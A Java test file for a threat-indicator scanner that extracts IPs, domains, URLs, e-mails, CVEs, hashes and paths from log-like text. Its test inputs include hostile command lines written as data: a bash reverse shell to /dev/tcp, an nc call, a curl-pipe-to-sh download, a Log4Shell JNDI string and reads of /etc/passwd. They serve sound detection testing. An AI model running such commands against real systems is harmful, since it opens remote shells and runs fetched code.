package io.weir.rules.indicator;

import io.weir.rules.condition.Network;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

class IndicatorScannerTest {
    private static final IndicatorScanner SCANNER = IndicatorScanner.ofForeign(OwnPlaces.NONE);
    private static final String MD5 = "9e107d9d372bb6826bd81d3542a419d6";
    private static final String SHA1 = "2fd4e1c67a2d28fced849ee1bb76e7391b93eb12";
    private static final String SHA256 = "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592";

    static List<String> found(String text) {
        return found(text, FieldSense.FREE);
    }

    static List<String> found(String text, FieldSense sense) {
        FoundIndicators found = new FoundIndicators(1000);
        SCANNER.scan(text, sense, found);
        return found.all().stream().map(Indicator::toString).toList();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '\0',
            value = {
                // addresses
                "Failed password for root from 203.0.113.56 port 22 ssh2 | ipv4:203.0.113.56",
                "203.0.113.5 | ipv4:203.0.113.5",
                "blocked 198.51.100.7. | ipv4:198.51.100.7",
                "198.51.100.1-198.51.100.9 | ipv4:198.51.100.1 ipv4:198.51.100.9",
                "src=203.0.113.9:4444, dst=10.0.0.1:80 | ipv4:203.0.113.9",
                "net 203.0.113.0/24 | ipv4:203.0.113.0",
                "permitted tcp inside/10.1.1.1(1234) -> outside/203.0.113.7(80) | ipv4:203.0.113.7",
                "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 | ipv4:198.51.100.7",
                "root@203.0.113.5's password | ipv4:203.0.113.5",
                "from 2001:db8::1 port 22 | ipv6:2001:db8::1",
                "2001:0DB8:0:0:0:0:0:1. | ipv6:2001:db8::1",
                "[2001:db8::5]:443 | ipv6:2001:db8::5",
                "::ffff:203.0.113.5 | ipv4:203.0.113.5",
                "ends 2001:db8::: nothing | ",
                // names
                "resolved c2.evil.co.uk to nothing | domain:c2.evil.co.uk",
                "WWW.EVIL.COM | domain:www.evil.com",
                "lookup evil.info, then bad-host.example. | domain:bad-host.example domain:evil.info",
                "GET www.evil.zip HTTP/1.1 | domain:www.evil.zip",
                "connect evil.sh:8443 | domain:evil.sh",
                "bücher.example.org | domain:xn--bcher-kva.example.org",
                "xn--bcher-kva.com | domain:xn--bcher-kva.com",
                "nc evil.com 443 | domain:evil.com",
                "smb://files.evil.com/x | domain:files.evil.com url:smb://files.evil.com/x",
                "duskgytldkxiuqc6.onion | domain:duskgytldkxiuqc6.onion",
                // URLs
                "see http://evil.com/a.php?x=1&y=2#frag. | domain:evil.com url:http://evil.com/a.php?x=1&y=2",
                "(https://evil.com/a_(b)) | domain:evil.com url:https://evil.com/a_(b)",
                "http://user:secret@evil.com:8080/x | domain:evil.com url:http://evil.com:8080/x",
                "HTTP://EVIL.COM/Path | domain:evil.com url:http://evil.com/Path",
                "[http://evil.com] | domain:evil.com url:http://evil.com/",
                "http://203.0.113.5:8000/run.sh;chmod | ipv4:203.0.113.5 url:http://203.0.113.5:8000/run.sh;chmod",
                "http://[2001:db8::1]:80/a | ipv6:2001:db8::1 url:http://[2001:db8::1]:80/a",
                "${jndi:ldap://evil.com:1389/a} | domain:evil.com url:ldap://evil.com:1389/a",
                "http://intranet/x http://10.0.0.1/etc/passwd | ",
                "curl -o- https://evil.sh/i; sh | domain:evil.sh url:https://evil.sh/i",
                // disguised
                "hxxp://evil[.]com/x | domain:evil.com url:http://evil.com/x",
                "hxxps[://]evil(.)com | domain:evil.com url:https://evil.com/",
                "HXXP[:]//evil[dot]com[/]a | domain:evil.com url:http://evil.com/a",
                "fxp://evil{.}com | domain:evil.com url:ftp://evil.com/",
                "203[.]0[.]113[.]5 and 198.51.100[.]7 | ipv4:198.51.100.7 ipv4:203.0.113.5",
                "evil[.]zip | domain:evil.zip",
                "evil(dot)sh | domain:evil.sh",
                "bob[at]evil[.]com | email:bob@evil.com",
                "bob(@)evil.com | email:bob@evil.com",
                "(+bob@evil.com) | email:bob@evil.com",
                // e-mail
                "From: Bob.Smith+x@Evil.com> | email:bob.smith+x@evil.com",
                "mailto:bob@evil.ai, | email:bob@evil.ai",
                "git@github.com:a/b postgres://app:secret@db.evil.com postgres://app@db.evil.com/x | domain:db.evil.com domain:github.com",
                // vulnerabilities
                "exploit for cve-2021-44228-log4j | cve:CVE-2021-44228",
                "CVE-2024-3094, CVE-2014-0160. | cve:CVE-2014-0160 cve:CVE-2024-3094",
                "CVE-1-2 XCVE-2021-44228 CVE-2021-44228a | ",
                // paths
                "C:\\Windows\\System32\\cmd.exe /c whoami | path:c:\\windows\\system32\\cmd.exe",
                "C:\\Program Files (x86)\\Some App\\a.exe -k | path:c:\\program files (x86)\\some app\\a.exe",
                "C:\\Documents and Settings\\bob\\x.dll | path:c:\\documents and settings\\bob\\x.dll",
                "\"C:\\My Files\\a b.exe\" C:\\y.bat | path:c:\\my files\\a b.exe path:c:\\y.bat",
                "\\\\server\\c$\\x.exe | path:\\\\server\\c$\\x.exe",
                "%APPDATA%\\x\\y.exe | path:%appdata%\\x\\y.exe",
                "cat /etc/passwd; ls /tmp/.x/run.sh. | path:/etc/passwd path:/tmp/.x/run.sh",
                "tar -C / -x a/b/c >/dev/null | ",
            })
    void findsIndicators(String text, String expected) {
        String joined = expected == null ? "" : expected;
        String[] parts = joined.isEmpty() ? new String[0] : joined.split(" (?=[a-z0-9]+:)");
        assertThat(found(text)).containsExactlyInAnyOrder(parts);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.1.2 Safari/537.36",
                "fe800000000000000000000000000000 fe80000000000000ffffffffffffffff (Definition 1.249.109.0)",
                "rv:1.8.1.4 agent version 7.1.2.3 started, v1.2.3.4, build: 8.8.8.8",
                "OpenSSH_8.9p1 Ubuntu-3ubuntu0.1 log4j-1.2.17.5.jar",
                "1.3.6.1.4.1.311.21.8 and 1.2.3.4.5",
                "1.2.3.4_5 and 01.02.03.04",
                "{550e8400-e29b-41d4-a716-446655440000} S-1-5-21-3623811015-3361044348-30300820-1013",
                "2024-01-01T12:30:45.123Z 01/02/2024 12:30:45 10.05.2024",
                "00:1a:2b:3c:4d:5e 00:11:22:33:44:55:66:77 2024:01:01:12:30:45:00:00",
                "java.lang.String org.apache.commons.io com.example.tools.run java.net kotlin.io.path.is",
                "System.Net System.IO.File Microsoft.Win32.Security [System.Net.WebClient]::new()",
                "setup.py run.sh main.rs README.md invoice.pdf.zip lib.so kernel32.dll report.docx archive.tar.gz x.ps1",
                "mode.com more.com format.com",
                "user.name=bob host.name: web event.id process.name",
                "os.open(x) window.open( $env.link fs.read(",
                "std::string a::b dead::beef Foo::Bar",
                "and/or n/a /c /quiet 1/2 w/o",
                "d41d8cd98f00b204e9800998ecf8427e 00000000000000000000000000000000",
                "10.0.0.1 192.168.1.1 127.0.0.1 169.254.1.1 224.0.0.1 255.255.255.255 fe80::1 ::1 fd00::1 ff02::1",
                "db.corp.local server.internal printer.lan localhost",
                "co.uk com.au 5.113.0.203.in-addr.arpa",
                "finished.The end.In time.Is it",
                "lodash@4.17.21 @types/node user@10.0.0.1 decorator@ @foo",
                "file:///etc foo://bar http:// https://, http://-/ http://a..b/",
                "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                "",
                ".",
                "....",
                "@",
                "::::",
                "[.][.][.]",
            })
    void findsNothingInWhatOnlyLooksLikeIt(String text) {
        assertThat(found(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {MD5, SHA1, SHA256})
    void findsHashes(String hash) {
        String kind = hash.length() == 32 ? "md5:" : hash.length() == 40 ? "sha1:" : "sha256:";
        assertThat(found(hash)).containsExactly(kind + hash);
        assertThat(found("SHA=" + hash.toUpperCase(Locale.ROOT) + ",")).containsExactly(kind + hash);
        assertThat(found(hash + ".exe")).containsExactly(kind + hash);
        assertThat(found(hash + "0")).isEmpty();
        assertThat(found("x" + hash)).isEmpty();
        assertThat(found(hash + "-" + hash)).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({"evil.sh, domain:evil.sh", "host.name, domain:host.name", "_x.evil.com, domain:_x.evil.com"})
    void readsFieldsOfNamesAsNames(String text, String expected) {
        assertThat(found(text, FieldSense.HOST)).containsExactly(expected);
        assertThat(found(text, FieldSense.OWN)).isEmpty();
    }

    @Test
    void findsOnlyTheScopesThatAreWanted() {
        FoundIndicators found = new FoundIndicators(10);
        new IndicatorScanner(Set.of(Scope.PUBLIC, Scope.PRIVATE), OwnPlaces.NONE)
                .scan(
                        "10.0.0.1 203.0.113.5 127.0.0.1 8.8.8.8 fd00::1 db.corp.local www.example.com",
                        FieldSense.FREE,
                        found);
        assertThat(found.all().stream().map(Indicator::value))
                .containsExactlyInAnyOrder("10.0.0.1", "8.8.8.8", "fd00::1", "db.corp.local");
    }

    @Test
    void leavesOutOnesOwnPlaces() {
        FoundIndicators found = new FoundIndicators(10);
        OwnPlaces own =
                new OwnPlaces(List.of(Network.parse("203.0.113.0/25").orElseThrow()), List.of("Own.example.com"));
        IndicatorScanner.ofForeign(own)
                .scan(
                        "203.0.113.5 203.0.113.200 http://203.0.113.6/x mail.own.example.com http://own.example.com/x"
                                + " bob@own.example.com not-own.example.com",
                        FieldSense.FREE,
                        found);
        assertThat(found.all().stream().map(Indicator::value))
                .containsExactlyInAnyOrder("203.0.113.200", "not-own.example.com");
    }

    @Test
    void endsPathsAndUrlsWhereTheNextBegins() {
        assertThat(found("C:\\Windows\\ntdll.dll+9c534|C:\\x\\notepad++.exe+1"))
                .containsExactly("path:c:\\windows\\ntdll.dll", "path:c:\\x\\notepad++.exe");
        assertThat(found("https://a.example/;https://b.example/x;y"))
                .containsExactly(
                        "domain:a.example", "domain:b.example", "url:https://a.example/", "url:https://b.example/x;y");
    }

    @Test
    void keepsTheSameIndicatorsInAnyOrderAndCountsTheRest() {
        FoundIndicators forward = new FoundIndicators(10);
        FoundIndicators backward = new FoundIndicators(10);
        for (int i = 0; i < 50; i++) {
            SCANNER.scan("203.0.113." + i, FieldSense.FREE, forward);
            SCANNER.scan("203.0.113." + (49 - i), FieldSense.FREE, backward);
        }
        assertThat(forward.all()).hasSize(10).isEqualTo(backward.all());
        assertThat(forward.cut()).isEqualTo(40).isEqualTo(backward.cut());
    }

    @Property(tries = 500)
    void survivesAnyTextAndFindsOnlyWhatIsCanonical(@ForAll("texts") String text) {
        FoundIndicators found = new FoundIndicators(100);
        new IndicatorScanner(Set.of(Scope.values()), OwnPlaces.NONE).scan(text, FieldSense.FREE, found);
        for (Indicator indicator : found.all()) {
            assertThat(IndicatorForm.of(indicator.kind(), indicator.value())).contains(indicator);
        }
    }

    @Property(tries = 300)
    void findsWhatIsPutBetweenBlanks(@ForAll("noise") String before, @ForAll("noise") String after) {
        assertThat(found(before + " | 203.0.113.77 | " + after)).contains("ipv4:203.0.113.77");
        assertThat(found(before + " | hxxp://evil[.]com/x | " + after)).contains("url:http://evil.com/x");
        assertThat(found(before + " | " + SHA256 + " | " + after)).contains("sha256:" + SHA256);
    }

    @Provide
    Arbitrary<String> noise() {
        return Arbitraries.strings()
                .ascii()
                .ofMaxLength(60)
                .filter(text -> text.indexOf('"') < 0 && text.indexOf('\'') < 0);
    }

    @Provide
    Arbitrary<String> texts() {
        List<String> pieces = Arrays.asList(
                "http://",
                "hxxp",
                "://",
                "[.]",
                "(dot)",
                "[at]",
                "@",
                ".",
                ":",
                "::",
                "/",
                "\\",
                "C:\\",
                "%",
                " ",
                "evil",
                "com",
                "co.uk",
                "203.0.113.5",
                "2001:db8",
                "CVE-2021-",
                "44228",
                MD5,
                "ffff",
                "-",
                "_",
                "(",
                ")",
                "[",
                "]",
                "\"",
                "/etc/",
                "x",
                "ü",
                "\uD83D\uDE00",
                "\uD83D",
                "1",
                "İ",
                "\n");
        return Arbitraries.of(pieces).list().ofMaxSize(25).map(list -> String.join("", list));
    }
}
